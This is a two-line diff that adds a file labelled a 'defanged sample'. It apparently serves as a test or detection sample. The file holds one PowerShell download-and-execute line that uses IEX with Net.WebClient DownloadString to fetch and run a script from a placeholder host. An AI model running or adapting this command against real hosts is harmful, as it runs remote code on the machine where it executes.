@@ -1,0 +1,2 @@
+# defanged sample
+IEX (New-Object Net.WebClient).DownloadString('https://a.example.invalid/x.ps1')
